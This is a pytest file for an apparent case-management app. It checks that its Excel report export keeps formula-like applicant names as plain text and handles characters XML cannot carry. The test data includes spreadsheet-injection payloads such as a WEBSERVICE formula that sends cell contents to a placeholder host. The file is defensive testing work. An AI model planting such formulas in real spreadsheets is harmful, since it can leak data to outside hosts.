"""The period's workbook with hostile names (issue 21, items 2 and 8): a name that looks
like a formula stays text, and characters XML cannot carry do not break the workbook."""

from __future__ import annotations

import datetime as dt
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy.orm import Session, sessionmaker

from ipdesk.models import CaseStatus
from ipdesk.services.actors import Actor
from ipdesk.services.queries.dashboard import Period
from ipdesk.services.queries.reports import safe_text, write_report
from tests.helpers.factories import make_case, seed

D = dt.date
PERIOD = Period(D(2026, 3, 1), D(2026, 5, 31))
TODAY = D(2026, 11, 27)

FORMULAS = [
    '=HYPERLINK("http://x/","点此")',
    "=1+1",
    '=WEBSERVICE("http://x/"&C5)',
    "\t=1+1",
    " =1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\r=1",
    "#N/A",
]


def _write(session_factory: sessionmaker[Session], tmp_path: Path, names: list[str]) -> Path:
    with session_factory.begin() as s:
        seed(s)
        for index, name in enumerate(names):
            make_case(
                s,
                "TL01-S01",
                CaseStatus.MEDIATING,
                received_on=D(2026, 3, 2) + dt.timedelta(days=index),
                accepted_on=D(2026, 3, 3) + dt.timedelta(days=index),
                applicant=name,
                respondent=name + "公司",
            )
    out = tmp_path / "report.xlsx"
    with session_factory() as s:
        write_report(s, Actor.system(), out, PERIOD, today=TODAY)
    return out


def test_names_that_look_like_formulas_stay_text(
    session_factory: sessionmaker[Session], tmp_path: Path
) -> None:
    out = _write(session_factory, tmp_path, FORMULAS)
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = load_workbook(out)
    cells = {
        c.value: c for row in wb["案件清单"].iter_rows() for c in row if isinstance(c.value, str)
    }
    for name in FORMULAS:
        cell = cells[name]
        assert cell.data_type == "s", name
        if name != "#N/A":
            assert cell.quotePrefix, name  # stays text when edited in Excel too
    assert not cells["案件清单"].quotePrefix


@pytest.mark.parametrize("bad", ["\uffff", "\ufffe", "\ufdd0", "\U0010ffff", "\x01", "\x1b[31m"])
def test_characters_a_workbook_cannot_hold_do_not_break_the_report(
    session_factory: sessionmaker[Session], tmp_path: Path, bad: str
) -> None:
    out = _write(session_factory, tmp_path, [f"张{bad}三"])
    wb = load_workbook(out)
    values = [c.value for row in wb["案件清单"].iter_rows() for c in row]
    assert safe_text(f"张{bad}三") in values
    assert "\ufffd" in safe_text(bad)
